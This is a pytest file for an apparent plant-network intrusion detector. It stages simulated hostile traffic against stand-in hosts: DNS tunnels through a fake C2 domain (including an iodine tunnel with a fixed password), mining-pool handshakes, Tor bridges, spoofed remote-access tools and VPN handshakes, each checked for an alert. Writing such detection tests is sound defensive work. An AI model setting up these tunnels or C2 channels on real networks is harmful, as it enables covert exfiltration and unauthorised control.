"""Ways out of the plant and into it that nobody ordered: tunnels, beacons, miners, Tor, remote-access tools, VPN."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.packets.certificates import made
from tests.packets.site import COLLEAGUE, HMI, OUT, Said, Site, of, only, told, tool

PASSWORD = "Kaskade-41"


@pytest.fixture(scope="module")
def names(site: Site) -> str:
    """A name server on the internet that answers everything; its address."""
    texts = [f"--txt-record=p{n}.c2.example,{'8f3a61c07be29d4' * 16}" for n in range(12)]
    plain = ("-k", "--no-resolv", "--no-hosts", "--user=root", "--pid-file=", "--address=/#/198.51.100.9")
    site.start("out", tool("dnsmasq"), *plain, *texts, port=53, udp=True)
    return OUT


def test_data_hidden_in_questions(site: Site, names: str, capsys: Said) -> None:
    with site.recording() as heard:
        site.act("hmi", "resolve", names, "A", "{}.t.c2.example")
    tunnel = only(told(capsys, heard), "dns_tunnel")
    assert tunnel["severity"] == "high" and "c2.example" in tunnel["msg"]


def test_orders_hidden_in_answers(site: Site, names: str, capsys: Said) -> None:
    with site.recording() as heard:
        site.act("hmi", "resolve", names, "TXT", *(f"p{n}.c2.example" for n in range(12)))
    assert "large answers" in only(told(capsys, heard), "dns_tunnel")["msg"]


def test_a_tunnel_of_iodine(site: Site, capsys: Said) -> None:
    """As soon as it stands, before anything goes through it."""
    iodine, iodined = tool("iodine"), tool("iodined")
    if not Path("/dev/net/tun").exists():
        pytest.skip("needs /dev/net/tun")
    secret = ("-f", "-P", PASSWORD)
    site.start("colleague", iodined, *secret, "-c", "10.99.0.1", "t.c3.example", port=53, udp=True)
    with site.recording() as heard:
        site.run("hmi", "timeout", 10, iodine, *secret, "-r", COLLEAGUE, "t.c3.example", check=False)
    tunnel = only(told(capsys, heard), "dns_tunnel")
    assert tunnel["severity"] == "high" and "raw bytes" in tunnel["msg"]


def test_names_that_give_it_away(site: Site, names: str, capsys: Said) -> None:
    with site.recording() as heard:
        site.act("hmi", "resolve", names, "A", "xmr-eu1.nanopool.org", "relay-4f2.net.anydesk.com")
    found = told(capsys, heard)
    assert only(found, "tor_or_mining")["techniques"] == ["T0869"]
    assert "AnyDesk" in only(found, "remote_access_tool")["msg"]


def test_a_program_calls_home(site: Site, capsys: Said) -> None:
    site.serve("out", "web", "serve", 8080, port=8080)
    with site.recording() as heard:
        site.act("hmi", "web", "ask", "GET", f"http://{OUT}:8080/tasks", "times=9", "pause=2")
    assert only(told(capsys, heard), "beacon")["severity"] == "medium"


SUBSCRIBE = {"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}
SUBSCRIBED = {"id": 1, "result": [[["mining.notify", "ae68"]], "08000002", 4], "error": None}
LOGIN = {"id": 1, "jsonrpc": "2.0", "method": "login", "params": {"login": "4A", "pass": "x", "agent": "XMRig/6.21.0"}}
JOB = {"id": 1, "jsonrpc": "2.0", "error": None, "result": {"id": "a", "job": {"blob": "07"}, "status": "OK"}}


@pytest.mark.parametrize(("port", "asked", "answer"), [(18_081, SUBSCRIBE, SUBSCRIBED), (7443, LOGIN, JOB)])
def test_a_miner_on_a_port_of_its_own(
    site: Site, capsys: Said, port: int, asked: dict[str, object], answer: dict[str, object]
) -> None:
    question, said = ((json.dumps(line) + "\n").encode().hex() for line in (asked, answer))
    site.serve("out", "ask", "serve-tcp", port, said, port=port)
    with site.recording() as heard:
        site.act("hmi", "ask", "tcp", OUT, port, question)
    mines = only(told(capsys, heard), "tor_or_mining")
    assert mines["severity"] == "high" and "mines" in mines["msg"]


def test_a_link_of_tor(site: Site, capsys: Said) -> None:
    openssl, pem = tool("openssl"), made(site.folder, "tor", "/CN=www.7sxdzi4wmkd.net", ca="/CN=www.tcfaaaz3.com")
    site.start("out", openssl, "s_server", "-accept", 9030, "-cert", pem, "-quiet", "-tls1_2", port=9030)
    to = ("-connect", f"{OUT}:9030", "-servername", "www.s4ku5skci.com", "-tls1_2")
    with site.recording() as heard:
        site.run("hmi", openssl, "s_client", *to, check=False)
    assert {n["severity"] for n in of(told(capsys, heard), "tor_or_mining")} >= {"high"}


def test_tor_itself(site: Site, capsys: Said) -> None:
    """A client and a bridge; it gets no further than the directory, as there is no network behind."""
    tor, relay, client = tool("tor"), site.folder / "relay.rc", site.folder / "client.rc"
    relay.write_text(
        f"DataDirectory {site.folder}/relay\nORPort {OUT}:9001 IPv4Only\nAddress {OUT}\nSocksPort 0\nBridgeRelay 1\n"
        "PublishServerDescriptor 0\nAssumeReachable 1\nExitPolicy reject *:*\nContactInfo nobody\n"
    )
    client.write_text(f"DataDirectory {site.folder}/client\nSocksPort 9050\nUseBridges 1\nBridge {OUT}:9001\n")
    site.start("out", tor, "-f", relay, "--hush", port=9001)
    found: set[str] = set()
    for _ in range(3):  # the name is made up each time; a short one without a digit may be anybody's
        with site.recording() as heard:
            site.run("hmi", "timeout", 8, tor, "-f", client, check=False)
        found |= {n["severity"] for n in of(told(capsys, heard), "tor_or_mining")}
        if "high" in found:
            return
    raise AssertionError(found)


def test_a_remote_access_tool_by_tls(site: Site, capsys: Said) -> None:
    openssl, pem = tool("openssl"), made(site.folder, "relay", "/CN=relay")
    site.start("out", openssl, "s_server", "-accept", 443, "-cert", pem, "-quiet", port=443)
    to = ("-connect", f"{OUT}:443", "-servername", "router9.teamviewer.com")
    with site.recording() as heard:
        site.run("hmi", openssl, "s_client", *to, check=False)
    assert only(told(capsys, heard), "remote_access_tool")["severity"] == "high"


@pytest.mark.parametrize(("proto", "port", "signed"), [
    ("udp", 1194, ""), ("udp", 4433, ""), ("udp", 4434, "--tls-auth"), ("udp", 4435, "--tls-crypt"), ("tcp", 4436, ""),
    ("tcp", 4437, "--tls-crypt"),
])  # fmt: skip
def test_openvpn_from_outside(site: Site, capsys: Said, proto: str, port: int, signed: str) -> None:
    """By its first packets, whatever port it uses, and also where these are signed or encrypted."""
    openvpn, pem = tool("openvpn"), made(site.folder, f"vpn{port}", "/CN=vpn")
    secret = site.folder / "vpn.secret"
    if not secret.exists():
        site.run("hmi", openvpn, "--genkey", "secret", secret)
    common = ["--ca", pem, "--cert", pem, "--key", pem, "--dev", "null", "--ifconfig-noexec"]
    common += [signed, secret] if signed else []
    server, client = ("tcp-server", "tcp-client") if proto == "tcp" else ("udp", "udp")
    own = ("--proto", server, "--port", port, "--tls-server", "--dh", "none")
    site.start("hmi", openvpn, *own, *common, port=port, udp=proto == "udp")
    with site.recording() as heard:
        to = ("--proto", client, "--remote", HMI, port, "--nobind", "--tls-client")
        site.run("out", "timeout", 5, openvpn, *to, *common, check=False)
    tunnel = only(told(capsys, heard), "remote_access_tool")
    assert tunnel["severity"] == "high" and tunnel["msg"].endswith("in by OpenVPN.")


def test_wireguard_to_the_outside(site: Site, capsys: Said) -> None:
    """Built by the whitepaper, 5.4.2 and 5.4.3: a handshake whose keys are made up looks the same from outside."""
    any_bytes = bytes(range(1, 145))
    initiation, response = b"\1\0\0\0" + any_bytes, b"\2\0\0\0" + any_bytes[:88]
    site.serve("out", "ask", "serve-udp", 4443, response.hex(), port=4443, udp=True)
    with site.recording() as heard:
        site.act("hmi", "ask", "udp", OUT, 4443, initiation.hex())
    assert only(told(capsys, heard), "remote_access_tool")["msg"].endswith("by WireGuard.")
